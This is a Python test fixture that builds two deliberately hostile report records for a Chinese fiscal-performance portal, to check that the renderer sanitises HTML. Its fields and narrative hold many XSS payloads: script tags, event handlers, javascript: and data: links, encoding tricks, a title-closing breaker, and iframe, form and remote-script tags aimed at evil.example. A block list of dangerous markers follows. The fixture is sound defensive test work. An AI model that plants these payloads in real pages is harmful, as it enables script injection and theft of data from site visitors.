"""A record written by someone hostile: HTML in every string the portal shows, and a narrative
full of constructs that must never run in a reader's browser. Only the table and the https link
of the narrative may survive."""

from __future__ import annotations

REPORT_ID = "hostile-2024-probe"
PATH = f"2024/{REPORT_ID}.md"
URL = f"reports/2024/{REPORT_ID}/"

TITLE = "<img src=x onerror=alert(1)>"
DEPARTMENT = "某局<script>alert(2)</script>"
INDICATOR = '"><svg onload=alert(3)>'

RECORD = f"""
---
id: {REPORT_ID}
title: "{TITLE}"
year: 2024
kind: self
form: "<b onmouseover=alert(12)>苏州市级财政支出项目绩效自评表</b>"
department: "{DEPARTMENT}"
implementer: "<iframe src=javascript:alert(13)></iframe>"
region: [江苏省, "<svg/onload=alert(14)>"]
evaluator: "</dd><script>alert(15)</script>"
scheme: suzhou-2024
unit: 万元
budget:
  initial: 10
  appropriated: 10
  executed: 9.5
subprojects:
  - {{name: "<a href=javascript:alert(16)>子项</a>", budget: 10, spent: 9.5}}
indicator_columns: [category, name, target, weight, actual, score]
indicators:
  - {{category: "决策目标<script>alert(17)</script>", name: 立项依据充分性, target: "充分", weight: 10, actual: "100%", score: 10}}
  - {{category: 产出目标, name: '{INDICATOR}', target: "'><img src=x onerror=alert(18)>", weight: 50, actual: "100%", score: 50}}
  - {{category: 满意度目标, name: 满意度, target: ">=90%", weight: 40, actual: "95%", score: 40}}
declared:
  total: 100
  grade: "<i onclick=alert(19)>优</i>"
source:
  url: "https://example.org/report\\"><script>alert(20)</script>"
  note: "录入说明<script>alert(21)</script>"
---

## 项目概况

正常段落<script>alert(5)</script>继续。

<p onclick="alert(6)" onmouseover="alert(7)">点击这里</p>

[危险链接](javascript:alert(4))

<a href="data:text/html,<script>alert(8)</script>">数据链接</a>

<a href="JaVaScRiPt:alert(9)">大小写混合链接</a>

<iframe src="https://evil.example/frame"></iframe>

<object data="https://evil.example/x.swf"></object>

<form action="https://evil.example/collect"><input name="q"><button>提交</button></form>

<style>body {{ display: none }}</style>

<img src="x" onerror="alert(10)">

![图片](javascript:alert(11))

## 资金明细

| 项目 | 金额（万元） |
| --- | --- |
| 宣传资料印制 | 3.20 |
| 场地租赁 | 6.30 |

详见[财政部网站](https://www.mof.gov.cn/)。
"""

# Every alert(n) above; none of them may ever run.
DANGEROUS_MARKERS = [
    "<script", "onerror", "onload", "onclick", "onmouseover", "javascript:", "data:text/html",
    "<iframe", "<object", "<form", "<input", "<style", "<svg", "<img",
]

# A second record whose title tries to close the page's <title> element, which browsers read as
# raw text: escaping that forgets <title> is the one place `<img ...>` would stay harmless.
TITLE_BREAKER_ID = "hostile-2024-title"
TITLE_BREAKER_PATH = f"2024/{TITLE_BREAKER_ID}.md"
TITLE_BREAKER_URL = f"reports/2024/{TITLE_BREAKER_ID}/"
TITLE_BREAKER = "</title><script>alert(22)</script>"
TITLE_BREAKER_RECORD = f"""
---
id: {TITLE_BREAKER_ID}
title: "{TITLE_BREAKER}"
year: 2024
kind: self
department: "</span></a><img src=x onerror=alert(23)>"
region: [江苏省]
scheme: suzhou-2024
unit: 万元
declared:
  total: 90
---

## 项目概况

<SCRIPT SRC=//evil.example/x.js></SCRIPT>正文<a href=" javascript:alert(24)">空格开头</a><a href="&#106;avascript:alert(25)">实体编码</a>
"""

RECORDS = {PATH: RECORD, TITLE_BREAKER_PATH: TITLE_BREAKER_RECORD}
